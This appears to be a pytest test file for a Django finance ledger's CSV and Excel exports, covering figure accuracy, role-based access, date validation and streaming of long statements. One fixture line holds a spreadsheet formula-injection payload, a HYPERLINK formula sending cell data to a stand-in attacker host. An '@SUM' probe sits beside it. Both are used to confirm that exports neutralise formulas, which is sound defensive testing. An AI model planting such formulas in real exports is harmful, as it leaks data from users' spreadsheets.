"""Finance exports (trial balance, account statement, transfers) as CSV and Excel: the figures read back equal the
ledger's, computed here straight from the transfers; text that looks like a formula stays text; finance and
auditors only; bad dates answer the page with an error; a long statement streams in a fixed number of queries."""

import csv
import datetime
import io
import zipfile
from decimal import Decimal

import openpyxl
import pytest
from django.db import connection
from django.db.models import Q, Sum
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from accounts.roles import Role
from ledger.models import DEBIT_NORMAL_KINDS, Account, AccountKind, Phase, Transfer
from tests.factories import user_with_role
from tests.ledger.helpers import DAY, open_account, post, reserve

pytestmark = pytest.mark.django_db

POSTED = (Phase.POSTED, Phase.POST_PENDING)
HYPERLINK = '=HYPERLINK("http://evil.example/steal?x="&A1,"Refund")'
START, END = datetime.date(2026, 10, 1), datetime.date(2026, 10, 31)


@pytest.fixture
def chart():
    """Money in before October, 60 payments out in October (more than a page), one after, and one still pending."""
    funding = open_account("exp:funding", AccountKind.EQUITY)
    cash = open_account("exp:cash", AccountKind.ASSET, credits_must_not_exceed_debits=True)
    spend = open_account("exp:spend", AccountKind.EXPENSE)
    post(cash, funding, 500_000, "allocation", effective_date=datetime.date(2026, 9, 15))
    for i in range(60):
        post(
            spend,
            cash,
            1_000 + i,
            "dp_spend",
            effective_date=DAY + datetime.timedelta(days=i % 25),
            reference=f"plan-line:{i}",
            description=f"Carer, visit {i}",
        )
    post(spend, cash, 777, "dp_spend", effective_date=DAY + datetime.timedelta(days=3), description=HYPERLINK)
    post(spend, cash, 55, "dp_spend", effective_date=DAY + datetime.timedelta(days=4), reference="@SUM(A1:A9)")
    post(cash, spend, 200, "refund", effective_date=DAY + datetime.timedelta(days=5), description="-10 returned")
    post(spend, cash, 999, "dp_spend", effective_date=datetime.date(2026, 11, 2))
    reserve(spend, cash, 4_000, "commitment", effective_date=DAY + datetime.timedelta(days=6))
    return funding, cash, spend


@pytest.fixture
def finance_client(client):
    client.force_login(user_with_role(Role.FINANCE_OFFICER))
    return client


def read_csv(response) -> list[list[str]]:
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith("attachment;")
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def read_xlsx(response):
    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    return openpyxl.load_workbook(io.BytesIO(response.content)).active


def pence_from_text(text: str) -> int:
    value = Decimal(text) * 100
    assert value == value.to_integral_value(), text
    return int(value)


def pence_from_number(value) -> int:
    return round(Decimal(str(value)) * 100)


def defused(text: str) -> str:
    return "'" + text if text[:1] in ("=", "+", "-", "@", "\t", "\r") else text


def signed(account: Account, transfer: Transfer) -> int:
    debit = transfer.amount if transfer.debit_account_id == account.pk else 0
    credit = transfer.amount if transfer.credit_account_id == account.pk else 0
    return debit - credit if account.kind in DEBIT_NORMAL_KINDS else credit - debit


# --- trial balance -------------------------------------------------------------------------------------------------


def expected_trial_balance(as_at: datetime.date) -> list[tuple[str, str, int, int]]:
    posted = Transfer.objects.filter(phase__in=POSTED, effective_date__lte=as_at)
    debits = dict(posted.values_list("debit_account").annotate(total=Sum("amount")))
    credits = dict(posted.values_list("credit_account").annotate(total=Sum("amount")))
    rows = []
    for account in Account.objects.order_by("code"):
        if account.pk not in debits and account.pk not in credits:
            continue
        net = debits.get(account.pk, 0) - credits.get(account.pk, 0)
        rows.append((account.code, account.get_kind_display(), max(net, 0), max(-net, 0)))
    return rows


def test_trial_balance_as_csv_and_excel_equals_the_ledger_and_balances(finance_client, chart):
    as_at = datetime.date(2026, 10, 20)
    expected = expected_trial_balance(as_at)
    assert len(expected) == 3 and sum(row[2] for row in expected) > 0

    rows = read_csv(finance_client.get(reverse("ledger:trial-balance-csv"), {"as_at": as_at.isoformat()}))
    assert rows[0] == ["Account code", "Account name", "Kind", "Debit (£)", "Credit (£)"]
    body, total = rows[1:-1], rows[-1]
    assert [(r[0], r[2], pence_from_text(r[3]), pence_from_text(r[4])) for r in body] == expected
    assert total[0] == "TOTAL" and total[3] == total[4]
    assert pence_from_text(total[3]) == sum(row[2] for row in expected) == sum(row[3] for row in expected)

    response = finance_client.get(reverse("ledger:trial-balance-xlsx"), {"as_at": as_at.isoformat()})
    assert 'filename="trial-balance-2026-10-20.xlsx"' in response["Content-Disposition"]
    sheet = read_xlsx(response)
    values = list(sheet.iter_rows(values_only=True))
    assert values[0] == ("Account code", "Account name", "Kind", "Debit (£)", "Credit (£)")
    assert [(r[0], r[2], pence_from_number(r[3]), pence_from_number(r[4])) for r in values[1:-1]] == expected
    assert values[-1][0] == "TOTAL" and values[-1][3] == values[-1][4]
    assert pence_from_number(values[-1][3]) == sum(row[2] for row in expected)
    assert sheet.cell(row=2, column=4).data_type == "n" and sheet.cell(row=2, column=4).number_format == "#,##0.00"


def test_trial_balance_now_includes_everything_posted(finance_client, chart):
    expected = expected_trial_balance(datetime.date(2099, 1, 1))
    rows = read_csv(finance_client.get(reverse("ledger:trial-balance-csv")))
    assert [(r[0], r[2], pence_from_text(r[3]), pence_from_text(r[4])) for r in rows[1:-1]] == expected


# --- account statement ---------------------------------------------------------------------------------------------


def expected_statement(account: Account, start, end) -> tuple[int, list[tuple]]:
    moves = Transfer.objects.filter(
        Q(debit_account=account) | Q(credit_account=account), phase__in=POSTED, effective_date__lte=end
    ).order_by("effective_date", "id")
    opening = sum(signed(account, t) for t in moves if t.effective_date < start)
    balance, lines = opening, []
    for t in moves:
        if t.effective_date < start:
            continue
        balance += signed(account, t)
        debit = t.amount if t.debit_account_id == account.pk else 0
        credit = t.amount if t.credit_account_id == account.pk else 0
        lines.append((t.effective_date, t.pk, t.code, t.reference, t.description, debit, credit, balance))
    return opening, lines


STATEMENT_HEADER = ["Date", "Transfer ID", "Code", "Reference", "Description", "Debit (£)", "Credit (£)", "Balance (£)"]


def test_statement_export_has_every_line_with_its_running_balance(finance_client, chart):
    funding, cash, spend = chart
    opening, expected = expected_statement(cash, START, END)
    assert opening == 500_000 and len(expected) == 63  # more than one page of 50
    url = reverse("ledger:statement-export", kwargs={"pk": cash.pk, "fmt": "csv"})
    rows = read_csv(finance_client.get(url, {"start": START.isoformat(), "end": END.isoformat()}))
    assert rows[0] == STATEMENT_HEADER
    assert rows[1][:5] == [START.isoformat(), "", "", "", "Opening balance"] and pence_from_text(rows[1][7]) == opening
    got = [
        (
            datetime.date.fromisoformat(r[0]),
            int(r[1]),
            r[2],
            r[3],
            r[4],
            pence_from_text(r[5]),
            pence_from_text(r[6]),
            pence_from_text(r[7]),
        )
        for r in rows[2:]
    ]
    # CSV cells that a spreadsheet would run as formulas carry a leading apostrophe; nothing else changes.
    assert got == [(*line[:2], *map(defused, line[2:5]), *line[5:]) for line in expected]
    assert "'" + HYPERLINK in [r[4] for r in rows]

    url = reverse("ledger:statement-export", kwargs={"pk": cash.pk, "fmt": "xlsx"})
    response = finance_client.get(url, {"start": START.isoformat(), "end": END.isoformat()})
    sheet = read_xlsx(response)
    values = list(sheet.iter_rows(values_only=True))
    assert list(values[0]) == STATEMENT_HEADER
    assert values[1][4] == "Opening balance" and pence_from_number(values[1][7]) == opening
    got = [
        (
            r[0].date(),
            r[1],
            r[2],
            r[3] or "",
            r[4] or "",
            pence_from_number(r[5]),
            pence_from_number(r[6]),
            pence_from_number(r[7]),
        )
        for r in values[2:]
    ]
    assert got == expected  # Excel keeps the text exactly, marked as text instead
    hyperlink = next(row[4] for row in sheet.iter_rows(min_row=2) if row[4].value == HYPERLINK)
    assert hyperlink.data_type == "s" and hyperlink.quotePrefix
    assert isinstance(values[2][0], datetime.datetime) and sheet.cell(row=3, column=1).number_format == "yyyy-mm-dd"
    sheet_xml = zipfile.ZipFile(io.BytesIO(response.content)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula anywhere in the file


def test_statement_export_defaults_to_the_pages_dates_and_the_page_links_to_it(finance_client, chart):
    funding, cash, spend = chart
    page = finance_client.get(
        reverse("ledger:account-statement", kwargs={"pk": cash.pk}), {"start": "2026-10-02", "end": "2026-10-09"}
    ).content.decode()
    csv_url = reverse("ledger:statement-export", kwargs={"pk": cash.pk, "fmt": "csv"})
    xlsx_url = reverse("ledger:statement-export", kwargs={"pk": cash.pk, "fmt": "xlsx"})
    assert f'href="{csv_url}?start=2026-10-02&amp;end=2026-10-09"' in page and "Download CSV" in page
    assert f'href="{xlsx_url}?start=2026-10-02&amp;end=2026-10-09"' in page and "Download Excel (XLSX)" in page
    opening, expected = expected_statement(cash, datetime.date(2026, 10, 2), datetime.date(2026, 10, 9))
    rows = read_csv(finance_client.get(csv_url, {"start": "2026-10-02", "end": "2026-10-09"}))
    assert pence_from_text(rows[1][7]) == opening and [int(r[1]) for r in rows[2:]] == [line[1] for line in expected]
    assert pence_from_text(rows[-1][7]) == expected[-1][7]


# --- transfers -----------------------------------------------------------------------------------------------------

TRANSFER_HEADER = [
    "Transfer ID",
    "Effective date",
    "Code",
    "Debit account",
    "Credit account",
    "Amount (£)",
    "Reference",
    "Description",
    "Phase",
]


def test_transfers_export_lists_every_transfer_in_the_dates_in_any_phase(finance_client, chart):
    expected = [
        (
            t.pk,
            t.effective_date,
            t.code,
            t.debit_account.code,
            t.credit_account.code,
            t.amount,
            t.reference,
            t.description,
            t.get_phase_display(),
        )
        for t in Transfer.objects.filter(effective_date__range=(START, END))
        .select_related("debit_account", "credit_account")
        .order_by("effective_date", "id")
    ]
    assert len(expected) == 64 and "Pending" in {row[8] for row in expected}
    params = {"start": START.isoformat(), "end": END.isoformat()}

    rows = read_csv(finance_client.get(reverse("ledger:transfers-export", kwargs={"fmt": "csv"}), params))
    assert rows[0] == TRANSFER_HEADER
    got = [(int(r[0]), datetime.date.fromisoformat(r[1]), *r[2:5], pence_from_text(r[5]), *r[6:]) for r in rows[1:]]
    assert got == [(*row[:6], *map(defused, row[6:])) for row in expected]
    assert "'" + HYPERLINK in [r[7] for r in rows] and "'@SUM(A1:A9)" in [r[6] for r in rows]

    response = finance_client.get(reverse("ledger:transfers-export", kwargs={"fmt": "xlsx"}), params)
    assert 'filename="transfers-2026-10-01-to-2026-10-31.xlsx"' in response["Content-Disposition"]
    values = list(read_xlsx(response).iter_rows(values_only=True))
    assert list(values[0]) == TRANSFER_HEADER
    got = [(r[0], r[1].date(), *r[2:5], pence_from_number(r[5]), r[6] or "", r[7] or "", r[8]) for r in values[1:]]
    assert got == expected


def test_the_exports_page_offers_both_formats(finance_client, chart):
    page = finance_client.get(reverse("ledger:exports")).content.decode()
    assert f'formaction="{reverse("ledger:transfers-export", kwargs={"fmt": "csv"})}"' in page
    assert f'formaction="{reverse("ledger:transfers-export", kwargs={"fmt": "xlsx"})}"' in page
    assert reverse("budgets:spend-export", kwargs={"fmt": "xlsx"}) in page
    trial = finance_client.get(reverse("ledger:trial-balance"), {"as_at": "2026-10-20"}).content.decode()
    assert f'href="{reverse("ledger:trial-balance-xlsx")}?as_at=2026-10-20"' in trial
    assert "Download CSV" in trial and "Download Excel (XLSX)" in trial and reverse("ledger:exports") in trial


# --- who may download, and bad input -------------------------------------------------------------------------------


def export_urls(cash: Account) -> list[str]:
    return [
        reverse("ledger:trial-balance-csv"),
        reverse("ledger:trial-balance-xlsx"),
        reverse("ledger:statement-export", kwargs={"pk": cash.pk, "fmt": "csv"}),
        reverse("ledger:statement-export", kwargs={"pk": cash.pk, "fmt": "xlsx"}),
        reverse("ledger:exports"),
        reverse("ledger:transfers-export", kwargs={"fmt": "csv"}),
        reverse("ledger:transfers-export", kwargs={"fmt": "xlsx"}),
    ]


@pytest.mark.parametrize("role", [Role.PATIENT, Role.CARE_BROKER, Role.CARE_COORDINATOR, Role.THIRD_PARTY_STAFF])
def test_people_outside_finance_get_not_found(client, chart, role):
    funding, cash, spend = chart
    client.force_login(user_with_role(role))
    assert [client.get(url).status_code for url in export_urls(cash)] == [404] * 7


def test_signed_out_visitors_get_nothing(client, chart):
    funding, cash, spend = chart
    assert all(client.get(url).status_code in (302, 404) for url in export_urls(cash))
    assert not any(client.get(url).content.startswith(b"\xef\xbb\xbf") for url in export_urls(cash))


def test_auditors_can_download_every_export(client, chart):
    funding, cash, spend = chart
    client.force_login(user_with_role(Role.AUDITOR))
    assert [client.get(url).status_code for url in export_urls(cash)] == [200] * 7
    rows = read_csv(client.get(reverse("ledger:trial-balance-csv")))
    assert rows[-1][0] == "TOTAL" and rows[-1][3] == rows[-1][4]


@pytest.mark.parametrize(
    ("name", "kwargs", "params", "message"),
    [
        ("ledger:statement-export", {"fmt": "csv"}, {"start": "31/13/2026"}, "Enter a real date"),
        ("ledger:statement-export", {"fmt": "xlsx"}, {"start": "2026-10-31", "end": "2026-10-01"}, "end date must"),
        ("ledger:transfers-export", {"fmt": "csv"}, {"end": "2026-02-30"}, "Enter a real date"),
        ("ledger:transfers-export", {"fmt": "xlsx"}, {"start": "2026-10-31", "end": "2026-10-01"}, "end date must"),
        ("ledger:trial-balance-xlsx", {}, {"as_at": "yesterday"}, "Enter a real date"),
        ("ledger:trial-balance-csv", {}, {"as_at": "2026-13-01"}, "Enter a real date"),
    ],
)
def test_bad_dates_answer_the_page_with_an_error_not_a_file(finance_client, chart, name, kwargs, params, message):
    funding, cash, spend = chart
    if name == "ledger:statement-export":
        kwargs = {**kwargs, "pk": cash.pk}
    response = finance_client.get(reverse(name, kwargs=kwargs), params)
    assert response.status_code == 400 and response["Content-Type"].startswith("text/html")
    page = response.content.decode()
    assert message in page and "nhsuk-error-summary" in page


@pytest.mark.parametrize("fmt", ["pdf", "json", "CSV", "xls"])
def test_unknown_formats_and_accounts_are_not_found(finance_client, chart, fmt):
    funding, cash, spend = chart
    assert finance_client.get(reverse("ledger:statement-export", kwargs={"pk": cash.pk, "fmt": fmt})).status_code == 404
    assert finance_client.get(reverse("ledger:transfers-export", kwargs={"fmt": fmt})).status_code == 404
    missing = Account.objects.order_by("-pk").first().pk + 1
    assert (
        finance_client.get(reverse("ledger:statement-export", kwargs={"pk": missing, "fmt": "csv"})).status_code == 404
    )


# --- a long statement ----------------------------------------------------------------------------------------------


def test_a_long_statement_streams_in_a_fixed_number_of_queries(finance_client):
    funding = open_account("big:funding", AccountKind.EQUITY)
    spend = open_account("big:spend", AccountKind.EXPENSE)
    with connection.cursor() as cursor:  # 5,000 transfers in one statement; the trigger keeps the counters right
        cursor.execute(
            "INSERT INTO ledger_transfer (idempotency_key, phase, debit_account_id, credit_account_id, amount, "
            "currency, code, reference, description, effective_date, recorded_at) "
            "SELECT 'big-' || g, 'posted', %s, %s, 1 + g %% 97, 'GBP', 'bulk', 'ref-' || g, '', "
            "date '2026-10-01' + (g %% 28), now() FROM generate_series(1, 5000) g",
            [spend.pk, funding.pk],
        )
    spend.refresh_from_db()
    url = reverse("ledger:statement-export", kwargs={"pk": spend.pk, "fmt": "csv"})
    params = {"start": START.isoformat(), "end": END.isoformat()}
    with CaptureQueriesContext(connection) as empty:
        read_csv(finance_client.get(url, {"start": "2026-09-01", "end": "2026-09-30"}))
    with CaptureQueriesContext(connection) as full:
        rows = read_csv(finance_client.get(url, params))
    assert len(rows) == 1 + 1 + 5_000
    assert len(full) == len(empty) <= 12  # the same queries whatever the length: no per-row work
    running = 0
    for row in rows[2:]:
        running += pence_from_text(row[5]) - pence_from_text(row[6])
        assert pence_from_text(row[7]) == running
    assert running == spend.posted_balance == sum(1 + g % 97 for g in range(1, 5001))

    with CaptureQueriesContext(connection) as excel:
        sheet = read_xlsx(
            finance_client.get(reverse("ledger:statement-export", kwargs={"pk": spend.pk, "fmt": "xlsx"}), params)
        )
    assert len(excel) == len(empty)
    assert sheet.max_row == 5_002 and pence_from_number(sheet.cell(row=5_002, column=8).value) == spend.posted_balance
